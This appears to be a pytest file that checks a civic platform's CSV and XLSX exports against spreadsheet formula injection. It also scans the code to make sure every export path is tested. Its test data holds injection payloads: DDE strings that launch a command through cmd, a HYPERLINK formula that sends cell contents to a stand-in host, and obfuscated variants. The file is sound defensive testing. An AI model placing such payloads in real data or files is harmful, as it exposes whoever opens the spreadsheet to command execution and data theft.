"""No cell of any export can be run as a formula, and numbers stay numbers.

Every export path is found from the code: any function that calls one of civic.exports' writers
(csv_rows, csv_download, xlsx_write). Each must have a driver below that makes the export through
its real view, admin action or worker step, with the same hostile cells in its data, and reads
the file it produced (CSV as text, XLSX with openpyxl). A module that writes CSV or XLSX without
those writers fails the test too. So a new export is either covered or the suite says which
driver to add.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import unicodedata
import zipfile
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from civic.exports import spreadsheet_cell
from civic.models import Role
from consultations.models import ResponseExport
from consultations.services import exports as response_exports
from contacts.models import DataRequest, Segment, Tag
from contacts.services import contact_for_email
from contacts.services.gdpr import data_request_create, data_request_process
from tests.consultations.conftest import make_consultation
from tests.consultations.test_results import respond, results_url
from tests.factories import AreaFactory, DepartmentFactory, OrganisationFactory, RoleFactory

# What someone might type, and the cell every export must hold for it: an apostrophe first (the
# spreadsheet programs' mark for text), and characters an XLSX file cannot hold taken out first.
HOSTILE = [
    ("=1+1", "'=1+1"),
    ("=1", "'=1"),
    ("+1+1", "'+1+1"),
    ("-5+3", "'-5+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=2+2", "'\r=2+2"),
    ("\n=3+3", "'\n=3+3"),
    (" =4+4", "' =4+4"),
    ("\u00a0=5+5", "'\u00a0=5+5"),
    ("\u3000=6+6", "'\u3000=6+6"),
    ("\u200b=7+7", "'\u200b=7+7"),
    ("\ufeff=8+8", "'\ufeff=8+8"),
    (
        '\x01=HYPERLINK("http://x.example/?"&A1,"Open")',
        '\'=HYPERLINK("http://x.example/?"&A1,"Open")',
    ),
    ("\x1f+9+9", "'+9+9"),
    ("\x0b-10+1", "'-10+1"),
    ("\x08\x07@SUM(1)", "'@SUM(1)"),
    ("\x02 \x03=11+1", "' =11+1"),
    ("\uff1d12+1", "'\uff1d12+1"),  # full-width equals sign
    ("\uff0b13", "'\uff0b13"),  # full-width plus sign
    ("\uff0d14", "'\uff0d14"),  # full-width hyphen-minus
    ("\uff20SUM(15)", "'\uff20SUM(15)"),  # full-width commercial at
    ("\ufe6616+1", "'\ufe6616+1"),  # small equals sign
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ('=DDE("cmd";"/C calc";"!A0")', '\'=DDE("cmd";"/C calc";"!A0")'),
]
# Harmless text that must come out as it went in.
PLAIN = [("Lighting by the bridge", "Lighting by the bridge"), ("5 trips", "5 trips")]
# C0 controls that XML cannot hold (what the expectations above leave out).
_UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
_EXCEL_ESCAPE = re.compile("_x([0-9A-Fa-f]{4})_")


def runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet program could take this text cell for a formula: its first
    character, once unwritable characters are dropped, is a tab or line break, or its first
    visible character folds to =, +, - or @. A plain number ("-5") is a number, not a formula."""
    text = _UNWRITABLE.sub("", text)
    if text.startswith("'") or _PLAIN_NUMBER.fullmatch(text):
        return False
    if text[:1] in ("\t", "\r", "\n"):
        return True
    for character in text:
        if not (character.isspace() or unicodedata.category(character) == "Cf"):
            return unicodedata.normalize("NFKC", character)[:1] in ("=", "+", "-", "@")
    return False


@dataclass
class Exported:
    """One file an export produced: its rows as a spreadsheet program would read them."""

    name: str
    rows: list[list]
    # For an XLSX, openpyxl's data type of every cell ("s" text, "n" number, "f" formula ...).
    types: list[list[str]] | None = None

    def texts(self) -> list[str]:
        return [cell for row in self.rows for cell in row if isinstance(cell, str)]


def read_csv(name: str, content: bytes) -> Exported:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff"), f"{name}: no byte-order mark"
    return Exported(name, list(csv.reader(io.StringIO(text[1:], newline=""))))


def _excel_unescaped(value):
    """Text as Excel reads it: _xHHHH_ is Excel's escape for a character XML cannot hold as it
    is (a carriage return is written _x000D_, and a literal "_x" as _x005F_x); openpyxl leaves
    them as they are."""
    if not isinstance(value, str):
        return value
    return _EXCEL_ESCAPE.sub(lambda match: chr(int(match.group(1), 16)), value)


def read_xlsx(name: str, content: bytes) -> Exported:
    sheet = load_workbook(io.BytesIO(content)).active
    rows, types = [], []
    for row in sheet.iter_rows():
        rows.append(["" if cell.value is None else _excel_unescaped(cell.value) for cell in row])
        types.append([cell.data_type for cell in row])
    return Exported(name, rows, types)


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


# Drivers: one per export path, each making the export the way an officer or resident does -----


def _consultation(values: list[str]):
    """A consultation with one response per value: the value as a short and a long written answer
    and as an 'Other' choice; and one response with numbers (-5 trips; 2.5 trips)."""
    organisation = OrganisationFactory(name="Northbridge City Council", slug="northbridge")
    department = DepartmentFactory(organisation=organisation, name="Transport", slug="transport")
    officer = RoleFactory(
        organisation=organisation, kind=Role.Kind.OFFICER, departments=[department]
    ).user
    area = AreaFactory(organisation=organisation, code="E05000009", name="=Ward+1")
    survey = make_consultation(department)
    for value in values:
        respond(
            survey,
            area=area,
            answers={
                "cycles": "Yes",
                "route": value,
                "helps": value,
                "improve": ["Signs", ("Other", value)],
            },
        )
    respond(survey, answers={"cycles": "No", "trips": Decimal("-5")})
    respond(survey, answers={"cycles": "No", "trips": Decimal("2.5")})
    return survey, officer


def _inline_csv(client, survey, officer) -> Exported:
    client.force_login(officer)
    response = client.post(results_url(survey.consultation, "export"), {"format": "csv"})
    return read_csv("responses CSV (streamed)", body(response))


def _worker_files(client, survey, officer) -> list[Exported]:
    client.force_login(officer)
    files = []
    for file_format, reader in (("csv", read_csv), ("xlsx", read_xlsx)):
        export = response_exports.export_request(
            actor=officer, consultation=survey.consultation, file_format=file_format
        )
        response_exports.export_write(export_id=export.pk)
        assert ResponseExport.objects.get(pk=export.pk).status == ResponseExport.Status.READY
        url = reverse(
            "admin:consultations_consultation_results_export_download",
            args=[survey.consultation.pk, export.pk],
        )
        files.append(reader(f"responses {file_format.upper()} (worker)", body(client.get(url))))
    return files


def drive_consultation_csv_in_the_request(client, values) -> list[Exported]:
    return [_inline_csv(client, *_consultation(values))]


def drive_consultation_export_by_a_worker(client, values) -> list[Exported]:
    return _worker_files(client, *_consultation(values))


def drive_segment_export(client, values) -> list[Exported]:
    organisation = OrganisationFactory(name="Northbridge")
    facilitator = RoleFactory(organisation=organisation, kind=Role.Kind.FACILITATOR).user
    tag = Tag.objects.create(organisation=organisation, name="cyclists")
    for number, value in enumerate(values):
        contact = contact_for_email(
            organisation=organisation, email=f"person{number}@example.org", source="survey"
        )
        contact.name = contact.represents = value
        contact.save(update_fields=["name", "represents"])
        contact.tags.add(tag)
    segment = Segment.objects.create(
        organisation=organisation,
        name="Cyclists",
        definition={"conditions": [{"field": "tag", "value": "cyclists"}]},
    )
    client.force_login(facilitator)
    response = client.post(
        "/admin/contacts/segment/", {"action": "export_csv", "_selected_action": [segment.pk]}
    )
    return [read_csv("segment CSV", body(response))]


def drive_subject_access_download(client, values) -> list[Exported]:
    organisation = OrganisationFactory(name="Northbridge")
    contact = contact_for_email(
        organisation=organisation, email="zeb@example.net", source="survey", name=values[0]
    )
    contact.notes = values[-1]
    contact.save(update_fields=["notes"])
    for value in values:
        contact.tags.add(Tag.objects.create(organisation=organisation, name=value))
    data_request = data_request_create(contact=contact, kind=DataRequest.Kind.ACCESS)
    data_request_process(data_request_id=data_request.pk)
    data_request.refresh_from_db()
    download = client.get(f"/my-data/download/{data_request.export_token}/")
    with zipfile.ZipFile(io.BytesIO(body(download))) as archive:
        return [read_csv("my data CSV", archive.read("my-data.csv"))]


def drive_voting_codes_csv(client, values) -> list[Exported]:
    """The CSV an officer saves with a new batch of voting codes: every cell is written by the
    council or made by civic, but a title or a batch's name is typed by an officer."""
    from django.utils import timezone

    from budgets.admin_voting import codes_csv
    from budgets.models import CodeBatch, Process

    process = Process(title=values[0], slug="codes", voting_closes_at=timezone.now())
    batch = CodeBatch(process=process, name=values[-1])
    return [read_csv("voting codes CSV", codes_csv(process, batch, list(values)).encode())]


def drive_conversation_votes(client, values) -> list[Exported]:
    """The vote matrix of a conversation: its columns are headed with statements residents
    wrote."""
    from debates.models import Conversation, Participant, Statement, StatementVote

    organisation = OrganisationFactory(name="Northbridge")
    team = DepartmentFactory(organisation=organisation)
    officer = RoleFactory(organisation=organisation, kind=Role.Kind.ORGANISATION_ADMIN).user
    conversation = Conversation.objects.create(
        department=team, title="Sharing", question="How?", slug="sharing"
    )
    participant = Participant.objects.create(conversation=conversation, anonymous_key="key")
    for value in values:
        statement = Statement.objects.create(conversation=conversation, text=value, status="shown")
        StatementVote.objects.create(participant=participant, statement=statement, choice=-1)
    client.force_login(officer)
    response = client.post(f"/admin/debates/conversation/{conversation.pk}/votes.csv")
    return [read_csv("conversation votes CSV", b"".join(response.streaming_content))]


# Every function that calls a writer of civic.exports, and the driver that exercises it.
EXPORT_PATHS = {
    "consultations.admin_results.ResultsPages.export": drive_consultation_csv_in_the_request,
    "consultations.services.exports.export_write": drive_consultation_export_by_a_worker,
    "contacts.admin.SegmentAdmin.export_csv": drive_segment_export,
    "contacts.services.gdpr.contact_data_csv": drive_subject_access_download,
    "budgets.admin_voting.codes_csv": drive_voting_codes_csv,
    "debates.admin_conversations.ConversationAdmin.export_view": drive_conversation_votes,
}
# Code that writes CSV itself, and why that is not an export.
NOT_EXPORTS = {
    "contacts.services.import_files.import_files_without": (
        "rewrites an uploaded import file without an erased person, for the importer to read "
        "again; it is never given to anyone"
    ),
    "budgets.allocation.pabulib.write_pabulib": (
        "writes a Pabulib file (semicolon-separated, the research format), whose text cells go "
        "through civic.exports.spreadsheet_text: tests/budgets/test_allocation_pabulib.py feeds "
        "it the hostile cells"
    ),
}
WRITERS = {"csv_rows", "csv_download", "xlsx_write"}


@pytest.fixture(autouse=True)
def media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.mark.django_db
@pytest.mark.parametrize("path", sorted(EXPORT_PATHS))
def test_no_cell_of_any_export_runs_as_a_formula(path, client):
    files = EXPORT_PATHS[path](client, [value for value, _cell in HOSTILE + PLAIN])

    for exported in files:
        if exported.types is not None:
            formulas = [
                (row, column)
                for row, types in enumerate(exported.types)
                for column, kind in enumerate(types)
                if kind == "f"
            ]
            assert formulas == [], f"{exported.name}: formula cells at {formulas}"
        texts = exported.texts()
        live = [text for text in texts if runs_as_formula(text)]
        assert live == [], f"{exported.name}: cells that run as formulas: {live!r}"
        missing = [expected for _value, expected in HOSTILE + PLAIN if expected not in texts]
        assert missing == [], f"{exported.name}: cells not found as expected: {missing!r}"


@pytest.mark.django_db
def test_numbers_stay_numbers_and_text_stays_text_in_every_format(client):
    survey, officer = _consultation(["-5", "2.5"])

    files = [_inline_csv(client, survey, officer), *_worker_files(client, survey, officer)]

    for exported in files:
        header = exported.rows[0]
        trips, route = header.index("Q8. Trips a week"), header.index("Q2. Which route do you use?")
        # Rows: the two written answers, then the two numbers.
        assert [row[route] for row in exported.rows[1:3]] == ["'-5", "2.5"], exported.name
        if exported.types is None:
            assert [row[trips] for row in exported.rows[3:]] == ["-5", "2.5"], exported.name
        else:
            assert [row[trips] for row in exported.rows[3:]] == [-5, 2.5], exported.name
            assert [types[trips] for types in exported.types[3:]] == ["n", "n"]
            assert [types[route] for types in exported.types[1:3]] == ["s", "s"]


def test_the_one_rule_for_a_cell():
    for value, expected in [*HOSTILE, *PLAIN]:
        assert spreadsheet_cell(value) == expected, repr(value)
    assert spreadsheet_cell("\x00=1+1") == "'=1+1"
    assert spreadsheet_cell("\ud800=1+1") == "'=1+1"
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell(-5) == -5
    assert spreadsheet_cell(Decimal("-2.5")) == Decimal("-2.5")
    assert spreadsheet_cell(-0.5) == -0.5
    assert spreadsheet_cell(True) == 1
    assert spreadsheet_cell(float("nan")) == "nan"
    assert spreadsheet_cell("") == ""
    assert spreadsheet_cell("'=already text") == "'=already text"


# Finding the export paths in the code ------------------------------------------------------------


def _modules() -> dict[str, Path]:
    """The project's own modules (every installed app under the project folder), not its tests,
    migrations or the writers themselves."""
    base = Path(settings.BASE_DIR)
    found = {}
    for config in apps.get_app_configs():
        root = Path(config.path)
        if not root.is_relative_to(base) or root.is_relative_to(base / "tests"):
            continue
        for path in root.rglob("*.py"):
            relative = path.relative_to(base)
            if "migrations" in relative.parts or relative == Path("civic/exports.py"):
                continue
            found[".".join(relative.with_suffix("").parts)] = path
    return found


class _Scan(ast.NodeVisitor):
    """Which functions (module.Class.function) name a writer of civic.exports, and which write
    CSV or XLSX by themselves."""

    def __init__(self, module: str):
        self.module, self.scope = module, []
        self.callers: set[str] = set()
        self.own_writers: set[str] = set()

    def _where(self) -> str:
        return ".".join([self.module, *self.scope])

    def _visit_scope(self, node):
        self.scope.append(node.name)
        self.generic_visit(node)
        self.scope.pop()

    visit_FunctionDef = visit_AsyncFunctionDef = visit_ClassDef = _visit_scope

    def visit_Name(self, node):
        if node.id in WRITERS:
            self.callers.add(self._where())

    def visit_Attribute(self, node):
        if node.attr in WRITERS:
            self.callers.add(self._where())
        if isinstance(node.value, ast.Name) and (
            (node.value.id == "csv" and node.attr in ("writer", "DictWriter"))
            or (node.value.id == "openpyxl" and node.attr == "Workbook")
        ):
            self.own_writers.add(self._where())
        if node.attr in ("to_csv", "to_excel"):
            self.own_writers.add(self._where())
        self.generic_visit(node)

    def visit_Import(self, node):
        for alias in node.names:
            if alias.name.split(".")[0] in ("xlsxwriter", "pyexcelerate", "xlwt", "odf"):
                self.own_writers.add(self._where())

    def visit_ImportFrom(self, node):
        module = (node.module or "").split(".")[0]
        names = {alias.name for alias in node.names}
        if (
            module in ("xlsxwriter", "pyexcelerate", "xlwt", "odf")
            or (module == "csv" and names & {"writer", "DictWriter"})
            or (module == "openpyxl" and "Workbook" in names)
        ):
            self.own_writers.add(self._where())


def _scan() -> tuple[set[str], set[str]]:
    callers, own_writers = set(), set()
    for module, path in _modules().items():
        scan = _Scan(module)
        scan.visit(ast.parse(path.read_text(), filename=str(path)))
        callers |= scan.callers - {module}  # an import line is not a call
        own_writers |= scan.own_writers
    return callers, own_writers


def test_every_function_that_writes_an_export_is_fed_the_hostile_cells():
    callers, _own_writers = _scan()

    assert callers == set(EXPORT_PATHS), (
        "Each function that calls a writer of civic.exports needs a driver in EXPORT_PATHS of "
        f"{__name__} that makes its export with the hostile cells. Not driven: "
        f"{sorted(callers - set(EXPORT_PATHS))}; driven but gone: "
        f"{sorted(set(EXPORT_PATHS) - callers)}"
    )


def test_no_module_writes_csv_or_xlsx_without_the_shared_writers():
    _callers, own_writers = _scan()

    assert own_writers == set(NOT_EXPORTS), (
        "Write spreadsheets through civic.exports (csv_rows, csv_download, xlsx_write), which "
        f"make every cell safe; these write their own: {sorted(own_writers - set(NOT_EXPORTS))}"
    )
